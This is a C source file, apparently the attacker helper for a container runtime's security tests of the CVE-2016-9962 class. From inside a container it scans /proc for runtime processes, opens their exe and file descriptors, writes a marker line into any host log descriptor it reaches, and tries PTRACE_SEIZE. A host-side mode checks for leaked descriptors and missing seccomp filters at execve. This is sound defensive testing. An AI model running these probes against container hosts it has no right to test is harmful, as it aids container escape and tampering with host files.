/* The attacker of tests/security/exec-ptrace.bats (issue 18, item 1:
 * CVE-2016-9962 class).  Built static and copied into the busybox rootfs.
 *
 *   exec-attack watch DIR MARK
 *	in the container: loop over /proc, and against every process that is
 *	still the runtime (its /proc/PID/exe is a memfd or names zanshin/runc)
 *	try what a container can do to it: read and open /proc/PID/exe, open
 *	/proc/PID/fd/N (and append a line to any fd whose path contains MARK,
 *	the host's log file), PTRACE_SEIZE it and, if that worked, check
 *	whether it is still the runtime at the interrupt stop (seized_runtime;
 *	an exec event instead means the seize landed inside execve, past the
 *	point where the runtime's state is gone).  Stops when DIR/stop exists and writes the
 *	counters to DIR/result (key=value lines).
 *   exec-attack target PID MARK
 *	in the container: the same attempts, once, against PID, taken to be
 *	the runtime whatever its exe (the created init, waiting for `start`;
 *	runc 1.1.5's shows "/"); prints the counters.
 *   exec-attack hostcheck MARK PRESERVED -- CMD...
 *	on the host, as root: run CMD (a `zanshin exec`) under ptrace, and at
 *	every execve entry of a descendant that is in another pid namespace
 *	(the exec'd process, about to become the container's program) list its
 *	fds: any whose path contains MARK, and any fd >= 3 + PRESERVED without
 *	FD_CLOEXEC, is counted, and so is a missing seccomp filter (the
 *	container tested has one).  Prints the counters and CMD's exit status.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/ptrace.h>

#define MAX_PID (1 << 22)

static struct {
	long pids_seen, runtime_seen, exe_refused, exe_read, exe_opened, fd_refused, fd_read, log_fd_seen,
	    log_fd_opened, seize_tried, seize_refused, seize_ok, exec_event, seized_runtime;
} c;
static const char *mark;
static bool target_mode; /* target: PID is the runtime (not started yet) */
static unsigned char done[MAX_PID / 8], seen[MAX_PID / 8];

#define BIT(a, p) (a[(p) / 8] & (1u << ((p) % 8)))
#define SETBIT(a, p) (a[(p) / 8] |= (1u << ((p) % 8)))

static bool is_runtime(const char *exe)
{
	return target_mode || strstr(exe, "memfd:") || strstr(exe, "zanshin") || strstr(exe, "runc");
}

/* 1: still the runtime, 0: something else (exec'd), -1: gone */
static int read_exe(pid_t pid)
{
	char path[64], exe[PATH_MAX];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int) pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	if (n < 0) {
		if (errno == ENOENT || errno == ESRCH)
			return -1;
		c.exe_refused++; /* EACCES: not dumpable, we are not allowed */
		return 1;
	}
	exe[n] = '\0';
	if (!is_runtime(exe))
		return 0;
	c.exe_read++;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		c.exe_opened++;
		close(fd);
	}
	return 1;
}

/* After something worked on PID: is it still the runtime?  A refused
 * readlink means still non-dumpable, i.e. not exec'd yet (exec is one-way:
 * what we got came from the runtime, not from the program it exec'd). */
static bool still_runtime(pid_t pid)
{
	char path[64], exe[PATH_MAX];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int) pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	if (n < 0)
		return errno == EACCES || errno == EPERM;
	exe[n] = '\0';
	return is_runtime(exe);
}

static void try_fds(pid_t pid)
{
	char path[64], fdp[512], target[PATH_MAX];
	struct dirent *de;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", (int) pid);
	d = opendir(path); /* the listing is allowed; each link is checked */
	if (d == NULL)
		return;
	while ((de = readdir(d)) != NULL) {
		ssize_t n;
		int fd;
		if (de->d_name[0] == '.')
			continue;
		snprintf(fdp, sizeof(fdp), "%s/%s", path, de->d_name);
		n = readlink(fdp, target, sizeof(target) - 1);
		if (n < 0) {
			if (errno == EACCES || errno == EPERM)
				c.fd_refused++;
			continue;
		}
		target[n] = '\0';
		if (still_runtime(pid))
			c.fd_read++;
		if (strstr(target, mark) == NULL)
			continue;
		c.log_fd_seen++;
		fd = open(fdp, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd >= 0) {
			static const char line[] = "ATTACK: the host log file opened from inside the container\n";
			c.log_fd_opened++;
			if (write(fd, line, sizeof(line) - 1) < 0)
				perror("write");
			close(fd);
		}
	}
	closedir(d);
}

static void try_seize(pid_t pid)
{
	int st;

	c.seize_tried++;
	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXEC) < 0) {
		c.seize_refused++;
		return;
	}
	c.seize_ok++;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st))
		return;
	/* an exec event: the seize came during execve, once the process was
	 * past the point of no return (new mm, CLOEXEC fds closed, dumpable
	 * reset): it holds nothing of the runtime any more */
	if ((st >> 16) == PTRACE_EVENT_EXEC)
		c.exec_event++;
	else if (still_runtime(pid))
		c.seized_runtime++;
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void attack(pid_t pid)
{
	int r = read_exe(pid);

	if (r <= 0) {
		SETBIT(done, pid);
		return;
	}
	c.runtime_seen++;
	try_fds(pid);
	try_seize(pid);
}

static void print_counters(FILE *f)
{
	fprintf(f,
		"pids_seen=%ld\nruntime_seen=%ld\nexe_refused=%ld\nexe_read=%ld\nexe_opened=%ld\nfd_refused=%ld\n"
		"fd_read=%ld\nlog_fd_seen=%ld\nlog_fd_opened=%ld\nseize_tried=%ld\nseize_refused=%ld\nseize_ok=%ld\n"
		"exec_event=%ld\nseized_runtime=%ld\n",
		c.pids_seen, c.runtime_seen, c.exe_refused, c.exe_read, c.exe_opened, c.fd_refused, c.fd_read,
		c.log_fd_seen, c.log_fd_opened, c.seize_tried, c.seize_refused, c.seize_ok, c.exec_event,
		c.seized_runtime);
}

static int watch(const char *dir)
{
	char stop[PATH_MAX], res[PATH_MAX], tmp[PATH_MAX];
	pid_t self = getpid();
	unsigned long iter = 0;
	DIR *proc = opendir("/proc");
	struct dirent *de;
	FILE *f;

	snprintf(stop, sizeof(stop), "%s/stop", dir);
	snprintf(res, sizeof(res), "%s/result", dir);
	snprintf(tmp, sizeof(tmp), "%s/result.tmp", dir);
	if (proc == NULL)
		return perror("/proc"), 1;
	for (;; iter++) {
		if (iter % 32 == 0 && access(stop, F_OK) == 0)
			break;
		rewinddir(proc);
		while ((de = readdir(proc)) != NULL) {
			long pid = strtol(de->d_name, NULL, 10);
			if (pid <= 0 || pid >= MAX_PID || pid == self || BIT(done, pid))
				continue;
			if (!BIT(seen, pid)) {
				SETBIT(seen, pid);
				c.pids_seen++;
			}
			attack(pid);
		}
	}
	f = fopen(tmp, "we");
	if (f == NULL)
		return perror(tmp), 1;
	print_counters(f);
	fclose(f);
	return rename(tmp, res) < 0 ? perror(res), 1 : 0;
}

static int target(pid_t pid)
{
	target_mode = true;
	if (read_exe(pid) > 0) {
		c.runtime_seen++;
		try_fds(pid);
		try_seize(pid);
	}
	print_counters(stdout);
	return 0;
}

/* ---- hostcheck ---------------------------------------------------------- */

static long fd_flags(pid_t pid, const char *fd)
{
	char path[512], line[256];
	long flags = -1;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/fdinfo/%s", (int) pid, fd);
	f = fopen(path, "re");
	if (f == NULL)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "flags: %lo", &flags) == 1)
			break;
	fclose(f);
	return flags;
}

static struct {
	long execs, log_fd, leaked, unfiltered;
} h;

/* the Seccomp: line of /proc/PID/status (2 = filter) */
static int seccomp_mode(pid_t pid)
{
	char path[64], line[256];
	int mode = -1;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/status", (int) pid);
	f = fopen(path, "re");
	if (f == NULL)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "Seccomp: %d", &mode) == 1)
			break;
	fclose(f);
	return mode;
}

/* at the execve entry of PID: what does it hold? */
static void check_fds(pid_t pid, int preserved)
{
	char path[64], fdp[512], target[PATH_MAX];
	struct dirent *de;
	DIR *d;

	h.execs++;
	if (seccomp_mode(pid) != 2)
		h.unfiltered++;
	snprintf(path, sizeof(path), "/proc/%d/fd", (int) pid);
	d = opendir(path);
	if (d == NULL)
		return;
	while ((de = readdir(d)) != NULL) {
		int fd = atoi(de->d_name);
		ssize_t n;
		if (de->d_name[0] == '.')
			continue;
		snprintf(fdp, sizeof(fdp), "%s/%s", path, de->d_name);
		n = readlink(fdp, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = '\0';
		if (strstr(target, mark)) {
			h.log_fd++;
			printf("# pid %d fd %d: %s (the log file)\n", (int) pid, fd, target);
		}
		if (fd >= 3 + preserved && !(fd_flags(pid, de->d_name) & O_CLOEXEC)) {
			h.leaked++;
			printf("# pid %d fd %d: %s survives execve\n", (int) pid, fd, target);
		}
	}
	closedir(d);
}

static bool other_pidns(pid_t pid)
{
	char path[64];
	struct stat a, b;

	snprintf(path, sizeof(path), "/proc/%d/ns/pid", (int) pid);
	if (stat(path, &a) < 0 || stat("/proc/self/ns/pid", &b) < 0)
		return false;
	return a.st_ino != b.st_ino;
}

static void on_syscall_stop(pid_t pid, pid_t top, int preserved)
{
	struct ptrace_syscall_info si;

	if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof(si), &si) <= 0)
		return;
	if (si.op != PTRACE_SYSCALL_INFO_ENTRY || pid == top)
		return;
	if ((si.entry.nr == 59 /* execve */ || si.entry.nr == 322 /* execveat */) && other_pidns(pid))
		check_fds(pid, preserved);
}

static int hostcheck(int preserved, char **argv)
{
	unsigned char *known = calloc(MAX_PID / 8, 1);
	int st, top_status = -1;
	pid_t top, pid;

	top = fork();
	if (top == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		execvp(argv[0], argv);
		_exit(127);
	}
	if (waitpid(top, &st, 0) != top)
		return perror("waitpid"), 1;
	ptrace(PTRACE_SETOPTIONS, top, 0,
	       PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEFORK | PTRACE_O_TRACEVFORK | PTRACE_O_TRACECLONE |
		   PTRACE_O_TRACEEXEC | PTRACE_O_EXITKILL);
	SETBIT(known, top);
	ptrace(PTRACE_SYSCALL, top, 0, 0);
	while ((pid = waitpid(-1, &st, __WALL)) > 0) {
		int sig = 0;
		if (!WIFSTOPPED(st)) {
			if (pid == top)
				top_status = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
			continue;
		}
		if (pid > 0 && pid < MAX_PID && !BIT(known, pid)) {
			SETBIT(known, pid); /* a new tracee's first stop */
		} else if (WSTOPSIG(st) == (SIGTRAP | 0x80)) {
			on_syscall_stop(pid, top, preserved);
		} else if ((st >> 16) == 0 && WSTOPSIG(st) != SIGTRAP) {
			sig = WSTOPSIG(st); /* a signal: deliver it */
		}
		ptrace(PTRACE_SYSCALL, pid, 0, sig);
	}
	printf("execs_checked=%ld\nlog_fd_at_execve=%ld\nfds_leaked=%ld\nunfiltered_at_execve=%ld\nstatus=%d\n",
	       h.execs, h.log_fd, h.leaked, h.unfiltered, top_status);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "watch") == 0) {
		mark = argv[3];
		return watch(argv[2]);
	}
	if (argc == 4 && strcmp(argv[1], "target") == 0) {
		mark = argv[3];
		return target(atoi(argv[2]));
	}
	if (argc >= 6 && strcmp(argv[1], "hostcheck") == 0 && strcmp(argv[4], "--") == 0) {
		mark = argv[2];
		return hostcheck(atoi(argv[3]), argv + 5);
	}
	fprintf(stderr, "usage: %s watch DIR MARK | target PID MARK | hostcheck MARK PRESERVED -- CMD...\n", argv[0]);
	return 2;
}
